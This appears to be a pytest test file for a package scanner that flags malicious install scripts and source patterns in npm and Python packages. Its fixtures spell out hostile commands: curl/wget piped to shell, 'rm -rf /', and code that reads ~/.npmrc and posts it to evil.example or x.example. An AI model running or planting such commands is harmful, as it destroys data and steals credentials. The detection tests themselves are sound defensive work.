"""Tests for the malicious pattern scanner."""

import threading
import time

import pytest

from pkgguard.analyzers.supply_chain import MaliciousPatternScanner
from pkgguard.errors import ScanCancelledError
from pkgguard.models.schemas import PackageInfo, PackageMetadata, PackageType, Severity


def npm(scripts=None, source_files=None):
    return PackageInfo(
        package_type=PackageType.NPM,
        metadata=PackageMetadata(name="demo", version="1.0.0"),
        scripts=scripts or {},
        source_files=source_files or {},
    )


def python(setup_py):
    return PackageInfo(
        package_type=PackageType.PYTHON,
        metadata=PackageMetadata(name="demo", version="1.0.0"),
        source_files={"setup.py": setup_py},
    )


def by_name(findings):
    return {f.pattern_name: f for f in findings}


@pytest.fixture
def scanner():
    return MaliciousPatternScanner()


class TestLifecycleScripts:
    def test_curl_pipe_to_shell(self, scanner):
        findings = by_name(scanner.scan(npm({"preinstall": "curl -s http://malicious.com/script.sh | bash"})))
        assert findings["remote-code-exec"].severity == Severity.CRITICAL
        assert findings["remote-code-exec"].location == "scripts.preinstall"

    def test_wget_pipe_to_sh(self, scanner):
        findings = by_name(scanner.scan(npm({"install": "wget -qO- http://x.example/i | sh"})))
        assert "remote-code-exec" in findings

    def test_destructive_command(self, scanner):
        findings = by_name(scanner.scan(npm({"postinstall": "node -e \"require('child_process').exec('rm -rf /')\""})))
        assert findings["destructive-filesystem"].severity == Severity.CRITICAL
        assert "shell-spawn" in findings

    def test_only_lifecycle_scripts_are_scanned(self, scanner):
        assert scanner.scan(npm({"test": "curl http://x | bash", "deploy": "rm -rf /"})) == []

    def test_benign_lifecycle_scripts(self, scanner):
        assert scanner.scan(npm({"postinstall": "node-gyp rebuild", "prepare": "husky install"})) == []

    def test_findings_deduplicated_per_location(self, scanner):
        findings = scanner.scan(npm({"install": "curl http://a.example | sh && curl http://b.example | bash"}))
        assert [f.pattern_name for f in findings].count("remote-code-exec") == 1

    def test_most_severe_first(self, scanner):
        findings = scanner.scan(npm({"preinstall": "curl -s http://malicious.com/script.sh | bash"}))
        ranks = [f.severity.rank for f in findings]
        assert ranks == sorted(ranks, reverse=True)
        assert findings[0].severity == Severity.CRITICAL

    def test_evidence_truncated(self, scanner):
        findings = scanner.scan(npm({"install": "curl http://x.example/" + "a" * 200 + " | sh"}))
        evidence = by_name(findings)["remote-code-exec"].matched_content
        assert evidence.endswith("...")
        assert len(evidence) == 103


class TestSourceFiles:
    def test_credential_exfiltration(self, scanner):
        steal = "\n".join([
            "const https = require('https');",
            "const fs = require('fs');",
            "const os = require('os');",
            "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
            "https.request({hostname: 'evil.example', method: 'POST'}).write(token);",
        ])
        findings = by_name(scanner.scan(npm({"postinstall": "node steal.js"}, {"steal.js": steal})))
        assert findings["data-exfiltration"].severity == Severity.CRITICAL
        assert findings["data-exfiltration"].location == "steal.js"
        assert findings["credential-access"].severity == Severity.HIGH

    def test_eval_of_decoded_string(self, scanner):
        source = "eval(Buffer.from('ZWNobyBoaQ==', 'base64').toString());"
        findings = by_name(scanner.scan(npm(source_files={"install.js": source})))
        assert findings["obfuscated-payload"].severity == Severity.CRITICAL

    def test_exec_of_base64_in_setup_py(self, scanner):
        findings = by_name(scanner.scan(python('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n')))
        assert findings["obfuscated-payload"].severity == Severity.CRITICAL

    def test_regexp_exec_is_not_code_execution(self, scanner):
        """A binary downloader that parses process.version is only network access."""
        source = "\n".join([
            "const https = require('https');",
            "const major = /^v(\\d+)/.exec(process.version)[1];",
            "https.get(`https://example.com/node-v${major}.tgz`, (res) => res.pipe(out));",
        ])
        findings = by_name(scanner.scan(npm({"install": "node install.js"}, {"install.js": source})))
        assert "remote-code-exec" not in findings
        assert findings["install-time-network"].severity == Severity.MEDIUM
        assert all(f.severity <= Severity.MEDIUM for f in findings.values())

    def test_eval_with_concatenation(self, scanner):
        findings = by_name(scanner.scan(npm(source_files={"run.js": 'eval("var x = " + payload);'})))
        assert findings["obfuscated-payload"].severity == Severity.HIGH


class TestSetupPy:
    def test_malicious_setup_py(self, scanner, malicious_setup_py):
        findings = by_name(scanner.scan(python(malicious_setup_py)))
        assert findings["remote-code-exec"].severity == Severity.CRITICAL
        assert findings["shell-spawn"].severity == Severity.HIGH
        assert "network" in findings["install-time-network"].description.lower()
        assert all(f.location == "setup.py" for f in findings.values())

    def test_network_only(self, scanner):
        source = (
            "import urllib.request\n"
            "from setuptools import setup\n\n"
            'VERSION = urllib.request.urlopen("https://example.com/version.txt").read().decode()\n'
            'setup(name="x", version=VERSION)\n'
        )
        findings = scanner.scan(python(source))
        assert [(f.pattern_name, f.severity) for f in findings] == [("install-time-network", Severity.MEDIUM)]

    def test_plain_subprocess_is_medium(self, scanner):
        findings = by_name(scanner.scan(python('import subprocess\nsubprocess.check_call(["make", "build"])\n')))
        assert findings["shell-spawn"].severity == Severity.MEDIUM

    def test_distant_signals_are_not_combined(self, scanner):
        source = "\n".join(
            ["import subprocess", "import urllib.request", 'urllib.request.urlopen("https://example.com/ping")']
            + ["x = 1"] * 30
            + ['subprocess.check_call(["make"])']
        )
        findings = by_name(scanner.scan(python(source)))
        assert "remote-code-exec" not in findings
        assert "install-time-network" in findings
        assert "shell-spawn" in findings

    def test_comments_are_ignored(self, scanner):
        source = "# os.system('curl http://x.example | sh')\nfrom setuptools import setup\nsetup(name='x')\n"
        assert scanner.scan(python(source)) == []


class TestScore:
    def test_empty(self):
        assert MaliciousPatternScanner.score([]) == 0.0

    def test_capped(self, scanner):
        findings = scanner.scan(npm({
            "preinstall": "curl -s http://malicious.com/script.sh | bash",
            "postinstall": "rm -rf ~/",
            "install": "cat ~/.npmrc | curl -d @- http://x.example",
        }))
        assert MaliciousPatternScanner.score(findings) == 100.0

    def test_weights_follow_severity(self, scanner):
        findings = scanner.scan(python('import subprocess\nsubprocess.check_call(["make", "build"])\n'))
        assert MaliciousPatternScanner.score(findings) == 10.0


class TestScanCost:
    def test_adversarial_concatenation_is_linear(self, scanner):
        source = "eval(" + "+" * 200000 + "\nnew Function(" + "+" * 200000 + "\nString.fromCharCode(" + "1," * 100000
        started = time.monotonic()
        scanner.scan(npm(source_files={"x.js": source}))
        assert time.monotonic() - started < 5

    def test_many_signals_far_apart(self, scanner):
        source = "\n".join(["fetch('https://a.example')"] * 3000 + [""] * 20 + ["eval(x)"] * 3000)
        started = time.monotonic()
        findings = by_name(scanner.scan(npm(source_files={"x.js": source})))
        assert time.monotonic() - started < 5
        assert "remote-code-exec" not in findings

    def test_cancelled_scan_stops(self, scanner, malicious_setup_py):
        cancelled = threading.Event()
        cancelled.set()
        with pytest.raises(ScanCancelledError):
            scanner.scan(python(malicious_setup_py), cancelled=cancelled)
